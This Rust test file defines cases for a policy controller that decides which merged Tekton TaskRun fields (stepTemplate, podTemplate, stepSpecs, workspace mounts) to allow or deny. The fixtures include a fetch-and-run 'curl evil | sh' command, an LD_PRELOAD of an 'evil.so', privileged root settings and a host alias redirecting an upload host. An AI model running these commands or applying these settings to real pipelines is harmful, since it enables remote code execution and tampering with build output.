//! Class 4: fields Tekton merges into every step (docs/tekton-notes.md, "What reaches every
//! step"). The stepTemplate goes into the author's own steps; the rest is refused with the
//! field and the fix; harmless Pod-level fields stay.

use serde_json::{Value, json};

use crate::cases::{Case, Expect, build_step, inline};

fn with(path: &[&str], value: Value) -> Value {
    let mut taskrun = inline(
        json!([build_step(), {"name": "test", "image": "golang", "command": ["go", "test"]}]),
    );
    let mut at = &mut taskrun;
    for key in &path[..path.len() - 1] {
        at = &mut at[*key];
    }
    at[path[path.len() - 1]] = value;
    taskrun
}

fn template(value: Value) -> Value {
    with(&["spec", "taskSpec", "stepTemplate"], value)
}

pub fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case {
            name: "merged/stepTemplate env LD_PRELOAD stays with the author's steps",
            namespace: "team-a",
            taskrun: template(
                json!({"env": [{"name": "LD_PRELOAD", "value": "/workspace/evil.so"}, {"name": "CREDS_MODE", "value": "off"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate command (an org step without one would run it)",
            namespace: "team-a",
            taskrun: template(
                json!({"command": ["/bin/sh", "-c", "curl evil | sh"], "args": ["x"]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate mounts over /bin, workingDir, securityContext, resources, image",
            namespace: "team-a",
            taskrun: template(
                json!({"volumeMounts": [{"name": "w", "mountPath": "/bin"}], "workingDir": "/evil",
                "securityContext": {"runAsUser": 0, "privileged": true}, "image": "evil",
                "computeResources": {"limits": {"memory": "1Mi"}}, "envFrom": [{"secretRef": {"name": "s"}}],
                "imagePullPolicy": "Never", "volumeDevices": [{"name": "d", "devicePath": "/dev/x"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate over a StepAction step cannot be kept from org steps",
            namespace: "team-a",
            taskrun: inline(json!([{"name": "clone", "ref": {"name": "git-clone"}}]))
                .as_object()
                .map(|_| {
                    let mut t = inline(json!([{"name": "clone", "ref": {"name": "git-clone"}}]));
                    t["spec"]["taskSpec"]["stepTemplate"] =
                        json!({"env": [{"name": "A", "value": "b"}]});
                    t
                })
                .unwrap(),
            expect: Expect::Denied("spec.taskSpec.stepTemplate"),
        },
        Case {
            name: "merged/stepSpecs naming an org step (an OOM-sized limit)",
            namespace: "team-a",
            taskrun: with(
                &["spec", "stepSpecs"],
                json!([{"name": "bookend-upload", "computeResources": {"limits": {"memory": "1Ki"}}}]),
            ),
            expect: Expect::Denied("spec.stepSpecs[0].name"),
        },
        Case {
            name: "merged/stepSpecs naming the author's step",
            namespace: "team-a",
            taskrun: with(
                &["spec", "stepSpecs"],
                json!([{"name": "build", "computeResources": {"limits": {"memory": "1Gi"}}}]),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/TaskRun-level computeResources",
            namespace: "team-a",
            taskrun: with(
                &["spec", "computeResources"],
                json!({"limits": {"memory": "1Ki"}}),
            ),
            expect: Expect::Denied("spec.computeResources"),
        },
        Case {
            name: "merged/podTemplate env overrides the policy's",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"env": [{"name": "CREDS_MODE", "value": "off"}]}),
            ),
            expect: Expect::Denied("spec.podTemplate.env[0]"),
        },
        Case {
            name: "merged/podTemplate hostAliases point the upload host at the author",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"hostAliases": [{"ip": "10.0.0.66", "hostnames": ["sbom.example"]}]}),
            ),
            expect: Expect::Denied("spec.podTemplate.hostAliases"),
        },
        Case {
            name: "merged/podTemplate dnsConfig",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"dnsConfig": {"nameservers": ["10.0.0.66"]}}),
            ),
            expect: Expect::Denied("spec.podTemplate.dnsConfig"),
        },
        Case {
            name: "merged/podTemplate dnsPolicy",
            namespace: "team-a",
            taskrun: with(&["spec", "podTemplate"], json!({"dnsPolicy": "None"})),
            expect: Expect::Denied("spec.podTemplate.dnsPolicy"),
        },
        Case {
            name: "merged/podTemplate hostNetwork",
            namespace: "team-a",
            taskrun: with(&["spec", "podTemplate"], json!({"hostNetwork": true})),
            expect: Expect::Denied("spec.podTemplate.hostNetwork"),
        },
        Case {
            name: "merged/podTemplate scheduling fields are harmless",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"nodeSelector": {"disk": "ssd"}, "tolerations": [{"key": "k", "operator": "Exists"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/hermetic execution mode takes the org steps' network",
            namespace: "team-a",
            taskrun: with(
                &["metadata", "annotations"],
                json!({"experimental.tekton.dev/execution-mode": "hermetic"}),
            ),
            expect: Expect::Denied("experimental.tekton.dev/execution-mode"),
        },
        Case {
            name: "merged/a breakpoint before an org step",
            namespace: "team-a",
            taskrun: with(
                &["spec", "debug"],
                json!({"breakpoints": {"beforeSteps": ["bookend-upload"]}}),
            ),
            expect: Expect::Denied("spec.debug.breakpoints.beforeSteps[0]"),
        },
        Case {
            name: "merged/v1beta1 stepOverrides naming an org step",
            namespace: "team-a",
            taskrun: {
                let mut t = with(
                    &["spec", "stepOverrides"],
                    json!([{"name": "bookend-sbom", "resources": {"limits": {"cpu": "1m"}}}]),
                );
                t["apiVersion"] = json!("tekton.dev/v1beta1");
                t
            },
            expect: Expect::Denied("spec.stepOverrides[0].name"),
        },
        Case {
            name: "merged/sidecars run beside every step (documented, allowed)",
            namespace: "team-a",
            taskrun: with(
                &["spec", "taskSpec", "sidecars"],
                json!([{"name": "db", "image": "postgres"}]),
            ),
            expect: Expect::Injected,
        },
    ];
    for (path, expect) in [
        (
            "/bin",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        (
            "/usr/local/bin",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        ("/", Expect::Denied("spec.taskSpec.workspaces[0].mountPath")),
        (
            "/workspace",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        // An org step's own mount: Tekton's rule, with its words.
        (
            "/bookend",
            Expect::Denied("workspace mount path \"/bookend\" must be unique"),
        ),
        (
            "/syft",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        (
            "$(params.where)",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        ("/messages", Expect::Injected),
        ("/workspace/src", Expect::Injected),
    ] {
        let name: &'static str =
            Box::leak(format!("merged/a workspace mounted at {path}").into_boxed_str());
        cases.push(Case {
            name,
            namespace: "team-a",
            taskrun: with(
                &["spec", "taskSpec", "workspaces"],
                json!([{"name": "w", "mountPath": path}]),
            ),
            expect,
        });
    }
    cases
}
